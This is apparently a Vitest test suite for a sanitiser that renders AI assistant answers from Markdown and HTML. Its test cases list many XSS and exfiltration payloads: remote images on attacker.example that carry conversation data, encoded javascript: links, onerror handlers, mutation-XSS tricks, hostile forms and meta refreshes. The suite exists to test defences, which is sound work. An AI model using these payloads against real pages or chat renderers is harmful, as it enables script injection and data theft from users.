// @vitest-environment jsdom
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { Marked } from 'marked';
import { prefilterHtml } from '@/lib/markdown/prefilter-html';
import { markdownHtml, renderMarkdownBlock } from '@/lib/markdown/render';
import { ANSWER_CLASS, purifyAnswerHtml, sanitizeMarkdownBlocks } from '@/lib/markdown/sanitize-answer';

/**
 * What an answer may contain, written out here rather than imported, so that widening the
 * sanitiser's allowlist fails this test: element → attributes it may carry. `div` and `button` are
 * omni-ai's own code-block wrapper and copy button, checked separately below.
 */
const EXPECTED: Record<string, string[]> = {
  p: [], br: [], hr: [], h1: [], h2: [], h3: [], h4: [], h5: [], h6: [],
  strong: [], em: [], del: [], blockquote: [], ul: [], ol: ['start'], li: [],
  pre: [], code: ['class'], span: ['class'],
  table: [], thead: [], tbody: [], tr: [], th: ['align'], td: ['align'],
  a: ['href', 'title', 'target', 'rel'],
};

/** The rendered block parsed as the panel parses it, in a template (inert: nothing loads in jsdom or out). */
function parse(html: string): DocumentFragment {
  const template = document.createElement('template');
  template.innerHTML = html;
  return template.content;
}

/** Every way the rendered block breaks the allowlist; empty when it keeps to it. */
function violations(html: string): string[] {
  const found: string[] = [];
  for (const el of parse(html).querySelectorAll('*')) {
    const tag = el.localName;
    if (el.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`foreign element <${tag}> (${el.namespaceURI})`);
    if (tag === 'div' || tag === 'button') {
      // Ours: <div class="code-block"><button type="button" class="copy" aria-label="Copy code">Copy</button><pre>…
      const ours =
        tag === 'div'
          ? el.outerHTML.startsWith('<div class="code-block"><button type="button" class="copy" aria-label="Copy code">Copy</button><pre>') &&
            el.children.length === 2
          : el.outerHTML === '<button type="button" class="copy" aria-label="Copy code">Copy</button>' && el.parentElement?.className === 'code-block';
      if (!ours) found.push(`<${tag}> that is not omni-ai's copy button: ${el.outerHTML.slice(0, 120)}`);
      continue;
    }
    const allowed = EXPECTED[tag];
    if (!allowed) {
      found.push(`element <${tag}>`);
      continue;
    }
    for (const { name, value } of el.attributes) {
      if (!allowed.includes(name)) found.push(`attribute ${name}="${value}" on <${tag}>`);
      if (name === 'class')
        for (const token of value.split(/\s+/)) if (!ANSWER_CLASS.test(token) || !/^(hljs|language-|[a-z]+_{1,3}$)/.test(token)) found.push(`class ${token}`);
    }
    if (tag === 'a') {
      const href = el.getAttribute('href');
      let scheme = '';
      try {
        scheme = new URL(href ?? '').protocol;
      } catch {
        /* relative or missing */
      }
      if (!['http:', 'https:', 'mailto:'].includes(scheme)) found.push(`link to ${href}`);
      if (el.getAttribute('target') !== '_blank' || el.getAttribute('rel') !== 'noopener noreferrer')
        found.push(`link without target=_blank rel="noopener noreferrer": ${el.outerHTML}`);
      if (el.querySelector('a')) found.push('link inside a link');
    }
  }
  return found;
}

/** Every URL the block would load: none of the allowed elements loads anything, so this is the check that stays true. */
function loadingUrls(html: string): string[] {
  const fragment = parse(html);
  const urls: string[] = [];
  for (const el of fragment.querySelectorAll('*'))
    for (const { name, value } of el.attributes)
      // A link's title is ours and names its href (checked by the link cases), which loads nothing.
      if (name !== 'href' && !(name === 'title' && value === el.getAttribute('href')) && /attacker|\/\/|javascript|data:/i.test(value))
        urls.push(`${el.localName} ${name}=${value}`);
  return urls;
}

/** The links a user sees: text → href. */
const links = (html: string) => [...parse(html).querySelectorAll('a')].map((a) => [a.textContent, a.getAttribute('href')]);
const text = (html: string) => parse(html).textContent!.replace(/\s+/g, ' ').trim();

interface Case {
  name: string;
  input: string;
  /** The links expected in the output, if the case is about them. */
  links?: [string, string][];
  /** Text the user should still see. */
  shows?: string;
}

const A = 'https://attacker.example';

// Each vector from issue 10 §1, in Markdown and in HTML inside Markdown, with its encoded variants.
const CASES: Case[] = [
  // Images: never loaded; a remote one is a link that names its host.
  { name: 'Markdown image', input: `![chart](${A}/c.png?q=the+conversation)`, links: [['Image from attacker.example', `${A}/c.png?q=the+conversation`]], shows: '(chart)' },
  { name: 'Markdown image with a title', input: `![x](${A}/t.png "title")`, links: [['Image from attacker.example', `${A}/t.png`]] },
  { name: 'reference-style image', input: `![logo][img]\n\n[img]: ${A}/r.png`, links: [['Image from attacker.example', `${A}/r.png`]] },
  { name: 'reference-style image, definition first', input: `[img]: ${A}/r.png\n![logo][img]`, links: [['Image from attacker.example', `${A}/r.png`]] },
  { name: '<img> tag', input: `<img src="${A}/i.png" alt="pic">`, links: [['Image from attacker.example', `${A}/i.png`]], shows: '(pic)' },
  { name: '<img> on another port, with an IDN host', input: '<img src="https://аpple.example:8443/i.png">', links: [['Image from xn--pple-43d.example:8443', 'https://xn--pple-43d.example:8443/i.png']] },
  { name: '<IMG> in capitals with an entity-encoded URL', input: '<IMG SRC="&#x68;ttps://attacker.example/e.png">', links: [['Image from attacker.example', `${A}/e.png`]] },
  { name: '<img> inside a link: the outer link stays, no link in a link', input: `<a href="https://ok.example/"><img src="${A}/in.png"></a>`, links: [['Image from attacker.example', 'https://ok.example/']] },
  { name: 'Markdown image inside a Markdown link', input: `[![x](${A}/badge.svg)](https://ok.example/)`, links: [['Image from attacker.example (x)', 'https://ok.example/']] },
  { name: 'srcset-only image', input: `<img srcset="${A}/1x.png 1x, ${A}/2x.png 2x">`, links: [], shows: '[Image]' },
  { name: '<img> with src and srcset', input: `<img src="${A}/s.png" srcset="${A}/2x.png 2x" sizes="100vw">`, links: [['Image from attacker.example', `${A}/s.png`]] },
  { name: 'legacy lowsrc/dynsrc', input: `<img lowsrc="${A}/l.png" dynsrc="${A}/d.avi">`, links: [] },
  { name: '<picture>/<source>', input: `<picture><source srcset="${A}/p.webp" type="image/webp"><img src="${A}/p.png"></picture>`, links: [['Image from attacker.example', `${A}/p.png`]] },
  { name: 'data: image', input: '![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==)', links: [], shows: '[Image: x]' },
  { name: 'data: SVG image', input: '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(1)%22/>">', links: [] },
  { name: 'javascript: image', input: '![x](javascript:alert(1))', links: [], shows: '[Image: x]' },
  { name: 'relative and protocol-relative images', input: '<img src="/icon.png"><img src="//attacker.example/p.png">', links: [] },
  { name: '<img onerror>', input: '<img src=x onerror="alert(1)">', links: [] },
  { name: '<input type=image>', input: `<input type="image" src="${A}/in.png">`, links: [] },
  { name: 'background attributes', input: `<table background="${A}/t.png"><tr><td background="${A}/td.png">cell</td></tr></table>`, shows: 'cell' },
  { name: '<body background>', input: `<body background="${A}/b.png">text</body>`, shows: 'text' },
  // Media, frames, objects.
  { name: '<video poster> with <source> and <track>', input: `<video poster="${A}/poster.png" src="${A}/v.mp4"><source src="${A}/v.webm"><track src="${A}/t.vtt"></video>` },
  { name: '<audio>', input: `<audio src="${A}/a.mp3" autoplay></audio>` },
  { name: '<iframe src> and srcdoc', input: `<iframe src="${A}/f"></iframe><iframe srcdoc="<img src=${A}/x>"></iframe>` },
  { name: '<object>, <embed>, <applet>', input: `<object data="${A}/o.swf"></object><embed src="${A}/e.swf"><applet code="x" codebase="${A}/"></applet>` },
  { name: '<frameset>, which would leave DOMPurify no body', input: `<frameset><frame src="${A}/f"></frameset>` },
  { name: '<portal>', input: `<portal src="${A}/p"></portal>` },
  // Styles: no <style>, no style, no <link>.
  { name: '<style> with @import', input: `<style>@import url(${A}/s.css); body { background: url(${A}/b.png) }</style>text`, shows: 'text' },
  { name: 'inline style that covers the panel', input: `<p style="position:fixed;inset:0;z-index:9;background:url(${A}/bg.png)">Sign in again</p>`, shows: 'Sign in again' },
  { name: '<link> stylesheet, preload, prefetch, dns-prefetch', input: `<link rel="stylesheet" href="${A}/s.css"><link rel="preload" as="image" href="${A}/p.png"><link rel="prefetch" href="${A}/pf"><link rel="dns-prefetch" href="//leak.attacker.example">` },
  // Forms, inputs, buttons.
  { name: '<form> with input, button and textarea', input: `<form action="${A}/f" method="post"><input name="q" value="secret"><textarea>t</textarea><select><option>o</option></select><button formaction="${A}/b">Go</button></form>` },
  { name: 'GFM task list', input: '- [x] done\n- [ ] to do', shows: '☑ done ☐ to do' },
  { name: 'raw checkbox', input: '<input type="checkbox" checked> <input type="checkbox"> <input type="text" value="v">', shows: '☑ ☐' },
  { name: '<button> outside a form', input: '<button class="copy" onclick="alert(1)">Copy</button>', shows: 'Copy' },
  // Navigation of the panel itself.
  { name: '<base href>', input: `<base href="${A}/">[rel](x)`, links: [] },
  { name: '<meta http-equiv=refresh>', input: `<meta http-equiv="refresh" content="0;url=${A}/">` },
  { name: '<a ping>', input: `<a href="https://ok.example/" ping="${A}/ping">ok</a>`, links: [['ok', 'https://ok.example/']] },
  { name: '<a> with target, rel, download, id, name, onclick', input: '<a href="https://ok.example/" target="_self" rel="opener" download id="root" name="x" onclick="alert(1)">ok</a>', links: [['ok', 'https://ok.example/']] },
  { name: '<area>/<map>', input: `<map name="m"><area href="${A}/" shape="rect" coords="0,0,9,9"></map>` },
  // Links: only http(s) and mailto; anything else is plain text.
  { name: 'Markdown link', input: '[docs](https://example.com/a?b=1#c)', links: [['docs', 'https://example.com/a?b=1#c']] },
  { name: 'mailto link', input: '[mail](mailto:a@example.com)', links: [['mail', 'mailto:a@example.com']] },
  { name: 'javascript: link', input: '[x](javascript:alert(1))', links: [], shows: 'x' },
  { name: 'javascript: in mixed case', input: '[x](JaVaScRiPt:alert(1))', links: [], shows: 'x' },
  { name: 'javascript: with a tab, entity-encoded', input: '<a href="java&#x09;script:alert(1)">x</a>', links: [], shows: 'x' },
  { name: 'javascript: with a newline, entity-encoded', input: '<a href="java&#10;script:alert(1)">x</a>', links: [], shows: 'x' },
  { name: 'javascript: entity-encoded letters', input: '<a href="&#106;&#97;vascript&#58;alert(1)">x</a> <a href="javascript&colon;alert(1)">y</a>', links: [], shows: 'x y' },
  { name: 'javascript: after spaces and control characters', input: '<a href=" \u0001javascript:alert(1)">x</a>', links: [] },
  { name: 'javascript: percent-encoded scheme', input: '[x](%6Aavascript:alert(1))', links: [] },
  { name: 'javascript: autolink', input: '<javascript:alert(1)>', links: [] },
  { name: 'vbscript:, file:, blob:, filesystem:', input: '[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](blob:https://x/1) [d](filesystem:https://x/t)', links: [], shows: 'a b c d' },
  { name: 'data: link', input: '<a href="data:text/html,<script>alert(1)</script>">x</a>', links: [] },
  { name: 'chrome-extension: link', input: '[options](chrome-extension://abcdefghijklmnopabcdefghijklmnop/options.html)', links: [], shows: 'options' },
  { name: 'relative link', input: '[options](/options.html) [here](options.html) [q](?x=1) [h](#top)', links: [], shows: 'options here q h' },
  { name: 'protocol-relative link', input: '[x](//attacker.example/p)', links: [] },
  { name: 'autolinks that are allowed', input: '<https://ok.example> www.ok.example a@ok.example', links: [['https://ok.example', 'https://ok.example/'], ['www.ok.example', 'http://www.ok.example/'], ['a@ok.example', 'mailto:a@ok.example']] },
  // SVG and MathML.
  { name: 'SVG with onload', input: '<svg onload="alert(1)"><circle r="9"/></svg>after', shows: 'after' },
  { name: 'SVG <image> and <use>', input: `<svg><image href="${A}/i.png"/><use href="${A}/s.svg#x"/></svg>` },
  { name: 'SVG <a> with xlink:href', input: '<svg><a xlink:href="javascript:alert(1)"><text>t</text></a></svg>' },
  { name: 'MathML', input: '<math><mi xlink:href="javascript:alert(1)">x</mi><maction actiontype="statusline">y</maction></math>' },
  // Nested, unclosed and mutation tricks.
  { name: 'HTML inside Markdown emphasis', input: `**bold <img src="${A}/b.png"> text**`, links: [['Image from attacker.example', `${A}/b.png`]], shows: 'bold' },
  { name: 'unclosed tag: text, its URL a link', input: `<img src="${A}/u.png"`, links: [[`${A}/u.png`, `${A}/u.png`]], shows: '<img src=' },
  { name: 'unclosed attribute', input: `<a href="https://ok.example/>x</a><img src="${A}/q.png">` },
  { name: 'doubled angle bracket', input: `<<img src="${A}/d.png">>`, links: [['Image from attacker.example', `${A}/d.png`]] },
  { name: 'script split by a script', input: '<scr<script>ipt>alert(1)</script>' },
  { name: 'noscript mutation', input: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` },
  { name: 'SVG style mutation', input: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
  { name: 'table foster-parenting', input: `<table><img src="${A}/fp.png"><tr><td>c</td></tr></table>`, links: [['Image from attacker.example', `${A}/fp.png`]] },
  { name: 'link inside a link', input: '<a href="https://one.example/">one<a href="https://two.example/">two</a></a>' },
  { name: 'template and custom elements', input: '<template><img src=x onerror=alert(1)></template><x-widget onclick="alert(1)">w</x-widget>', shows: 'w' },
  { name: '<details ontoggle>', input: '<details open ontoggle="alert(1)"><summary>s</summary>d</details>', shows: 'sd' },
  { name: 'attributes on elements that do not take them', input: `<span title="t" href="${A}/s">s</span><p align="center">p</p><code start="1" align="left">c</code>`, shows: 'sp' },
  { name: 'attribute that looks like our markup', input: '<a title="<pre>" href="https://ok.example/">t</a>', links: [['t', 'https://ok.example/']] },
  // Class names: highlight.js's only.
  { name: 'class borrowing the panel’s styles', input: '<span class="alert visually-hidden hljs-keyword">k</span><code class="message user">c</code><p class="notice">n</p>', shows: 'kcn' },
  { name: 'highlighted code keeps its classes', input: '```ts\nclass A { f() {} }\n```' },
  { name: 'a code block whose language is markup', input: '```html" onmouseover="alert(1)\n<b>x</b>\n```', shows: '<b>x</b>' },
  // What Markdown needs still renders.
  { name: 'table with alignment', input: '| a | b |\n|:-|-:|\n| 1 | 2 |', shows: 'a b 1 2' },
  { name: 'headings, lists, quotes, rules', input: '# H\n\n1. one\n2. two\n\n> quote\n\n---\n\nline  \nbreak ~~del~~ *em* **strong** `code`', shows: 'H' },
];

// The whole sanitiser, and DOMPurify's part alone: each layer keeps every case to the allowlist.
const LAYERS: Record<string, (markdown: string) => string> = {
  'prefilter and DOMPurify': (markdown) => renderMarkdownBlock(markdown),
  'DOMPurify alone': (markdown) => renderMarkdownBlock(markdown, purifyAnswerHtml),
};

for (const [layer, render] of Object.entries(LAYERS))
  describe(`an answer rendered from hostile Markdown and HTML (${layer})`, () => {
    for (const c of CASES)
      it(c.name, () => {
        const html = render(c.input);
        expect(violations(html), html).toEqual([]);
        expect(loadingUrls(html), html).toEqual([]);
        if (c.links) expect(links(html), html).toEqual(c.links);
        if (c.shows) expect(text(html)).toContain(c.shows);
      });
  });

/** A fragment as HTML, the fragment left as it is. */
function serialize(fragment: DocumentFragment): string {
  const container = document.createElement('div');
  container.append(fragment.cloneNode(true));
  return container.innerHTML;
}

/** DOMPurify parses into a document of its own per call: fragments from one call share theirs. */
const documentsOf = (fragments: DocumentFragment[]) => new Set(fragments.map((fragment) => fragment.ownerDocument)).size;

describe('sanitizeMarkdownBlocks (an answer’s blocks sanitised in one call)', () => {
  const before = markdownHtml('## Before\n\nA paragraph with **bold** and a [link](https://example.com/).').html;
  const after = markdownHtml('- a point\n- `code`\n\n> a quote').html;

  for (const c of CASES)
    it(`gives each block what sanitising it alone gives: ${c.name}`, () => {
      const { html, hasRawHtml } = markdownHtml(c.input);
      const blocks = [before, html, after];
      const together = sanitizeMarkdownBlocks(blocks);
      expect(together.map(serialize)).toEqual(blocks.map((block) => serialize(purifyAnswerHtml(block))));
      // Markdown's own HTML (all AnswerBuild gives it) in one call, not block by block.
      if (!hasRawHtml) expect(documentsOf(together)).toBe(1);
      const shown = serialize(together[1]!);
      expect(violations(shown), shown).toEqual([]);
      expect(loadingUrls(shown), shown).toEqual([]);
    });

  // The wrapper check catches a block that is not whole, not every way raw HTML can reach across
  // (`<p>a</p></blockquote><blockquote><p>b</p><blockquote>` then `<p>B</p>` keeps two wrappers and
  // moves `b` into the second block): it is safe because only Markdown's own markup comes here, so
  // hasRawHtml must see HTML wherever marked puts it, and marked must escape everything else.
  it('is given no raw HTML: a block holding HTML anywhere is flagged, and an unflagged one is Markdown’s own markup only', () => {
    const withHtml = [
      '| a | b |\n|-|-|\n| <b>cell</b> | x |',
      '[<b>link text</b>](https://ok.example/)',
      '![<b>alt</b>](https://ok.example/i.png)',
      '# Heading <b>x</b>',
      '> quote <b>x</b>',
      '**strong <b>x</b>**',
      '- [x] done <!-- a comment -->',
      '1. one\n   - nested <b>x</b>',
      'www.ok.example/<b>x</b>',
    ];
    for (const block of withHtml) expect(markdownHtml(block).hasRawHtml, block).toBe(true);
    const OWN = new Set(['p', 'a', 'img', 'em', 'strong', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'h1', 'hr', 'br', 'input']);
    const withoutHtml = [
      '`</blockquote><blockquote>`',
      '&#60;/blockquote&#62;&lt;blockquote&gt; &#x3C;b&#x3E;',
      '\\</blockquote\\>',
      '[x](https://ok.example/"></blockquote><b> "</blockquote>\'")',
      '[x][r]\n\n[r]: https://ok.example/ "</blockquote><b>"',
      '<https://ok.example/"onmouseover="x> www.ok.example/"\'',
      '| `</td></tr></table></blockquote>` | &#60;b&#62; |\n|-|-|\n| \\| | x |',
      '```"></blockquote><img src=x onerror=alert(1)>\n</blockquote>\n```',
      '- [x] `</li></ul></blockquote>`',
    ];
    for (const block of withoutHtml) {
      const { html, hasRawHtml } = markdownHtml(block);
      expect(hasRawHtml, block).toBe(false);
      const elements = [...parse(html).querySelectorAll('*')].map((el) => el.localName);
      expect(elements.filter((name) => !OWN.has(name)), html).toEqual([]);
      expect(elements.filter((name) => name === 'blockquote'), html).toEqual([]);
      const blocks = [before, html, after];
      expect(sanitizeMarkdownBlocks(blocks).map(serialize), html).toEqual(blocks.map((b) => serialize(purifyAnswerHtml(b))));
    }
  });

  it('sanitises each block alone when one is not whole, so no block’s nodes end up in another', () => {
    for (const blocks of [
      ['<p>a</p>', '<blockquote><p>never closed', '<p>b</p>'],
      ['<p>a</p>', '<!-- a comment never closed', '<p>b</p>'],
      ['<p>a</p></blockquote><blockquote><p>b</p>', '<p>c</p>'],
      ['<p>a</p>', 'text</blockquote>more', '<p>b</p>'],
    ]) {
      const together = sanitizeMarkdownBlocks(blocks);
      expect(together.map(serialize), blocks.join(' | ')).toEqual(blocks.map((block) => serialize(purifyAnswerHtml(block))));
      expect(documentsOf(together)).toBe(blocks.length);
    }
  });
});

describe('prefilterHtml', () => {
  // Chromium reports a style, on… or <base href> under the panel's CSP as soon as it parses one,
  // even into an inert document: none may be left for DOMPurify's parse.
  for (const c of CASES)
    it(`leaves the browser's parser only allowlisted elements and attributes: ${c.name}`, () => {
      const html = prefilterHtml(new Marked({ gfm: true }).parse(c.input, { async: false }));
      for (const el of parse(html).querySelectorAll('*')) {
        // The answer's own elements, with a link's href and title only (target and rel are ours, added later).
        const kept = { ...EXPECTED, a: ['href', 'title'], img: ['src', 'alt'], input: ['type', 'checked'] }[el.localName];
        expect(kept, el.outerHTML).toBeDefined();
        for (const { name } of el.attributes) expect(kept, el.outerHTML).toContain(name);
      }
    });

  it('is run on every block that holds raw HTML, and only on those', () => {
    const flags: [string, boolean][] = [];
    for (const block of ['**bold** and `code`', '```html\n<img src=x onerror=y()>\n```', 'a <b style="x">b</b>', '<div onclick="x()">\nblock\n</div>', '- item <img src=x>'])
      renderMarkdownBlock(block, (html, hasRawHtml) => {
        flags.push([block, hasRawHtml]);
        return purifyAnswerHtml(html);
      });
    expect(flags.map(([, raw]) => raw)).toEqual([false, false, true, true, true]);
  });

  it('rebuilds what it keeps with its text and attribute values escaped', () => {
    expect(prefilterHtml('<p title="x">a &lt;b&gt; &amp; <em onclick="x()">c</em><x-y>d</x-y></p><script>e</script>')).toBe(
      '<p>a &lt;b&gt; &amp; <em>c</em>d</p>',
    );
    expect(prefilterHtml('<a href="https://e.example/?a=1&amp;b=&quot;2&quot;" target="_self">l</a>')).toBe(
      '<a href="https://e.example/?a=1&amp;b=&quot;2&quot;">l</a>',
    );
  });
});

describe('the sanitiser', () => {

  it('keeps what Markdown needs: headings, lists, quotes, tables, rules, breaks, code', () => {
    const html = renderMarkdownBlock('# H\n\n3. three\n4. four\n\n> quote\n\n---\n\nline  \nbreak ~~del~~ *em* **strong** `code`');
    expect(html).toContain('<h1>H</h1>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<hr>');
    expect(html).toContain('line<br>break <del>del</del> <em>em</em> <strong>strong</strong> <code>code</code>');
    expect(renderMarkdownBlock('| a |\n|:-:|\n| 1 |')).toContain('<th align="center">a</th>');
  });

  it('keeps only highlight.js’s class names', () => {
    expect(renderMarkdownBlock('<span class="alert hljs-keyword">k</span>')).toBe('<p><span class="hljs-keyword">k</span></p>\n');
    expect(renderMarkdownBlock('```ts\nclass A {}\n```')).toContain('<span class="hljs-title class_">A</span>');
    // A sub-scope's sub-scope: highlight.js adds one `_` per level.
    expect(renderMarkdownBlock('```rust\nfn main() { run(x); }\n```')).toContain('<span class="hljs-title function_ invoke__">run</span>');
  });

  it('gives a link the tooltip of where it goes, never the answer’s own title', () => {
    const link = (markdown: string) => parse(renderMarkdownBlock(markdown)).querySelector('a')!;
    const lying = link('[the docs](https://attacker.example/x "https://docs.example.com/guide")');
    expect(lying.getAttribute('href')).toBe('https://attacker.example/x');
    expect(lying.getAttribute('title')).toBe('https://attacker.example/x');
    const raw = link('<a href="https://attacker.example/y" title="Opens docs.example.com">docs</a>');
    expect(raw.getAttribute('title')).toBe('https://attacker.example/y');
    // Text that looks like one URL over a link to another: the tooltip names the real one.
    expect(link('[https://docs.example.com/](https://attacker.example/z)').getAttribute('title')).toBe('https://attacker.example/z');
    // A link that shows its own URL needs no tooltip.
    expect(link('<https://docs.example.com/guide>').hasAttribute('title')).toBe(false);
    expect(link('https://docs.example.com').hasAttribute('title')).toBe(false);
  });
});

describe('the panel’s stylesheet', () => {
  // An answer may carry the class names ANSWER_CLASS admits; none of them may be one of the panel's
  // own, or an answer could dress itself as the panel's alerts or buttons.
  it('defines no class an answer may carry, except highlight.js’s', () => {
    const css = fs.readFileSync(path.resolve(import.meta.dirname, '../../components/ui/theme.css'), 'utf8');
    const classes = new Set([...css.replace(/\/\*[\s\S]*?\*\//g, '').matchAll(/\.(-?[_a-zA-Z][\w-]*)/g)].map((m) => m[1]!));
    expect(classes.size).toBeGreaterThan(20);
    expect([...classes].filter((name) => ANSWER_CLASS.test(name) && !name.startsWith('hljs'))).toEqual([]);
  });
});
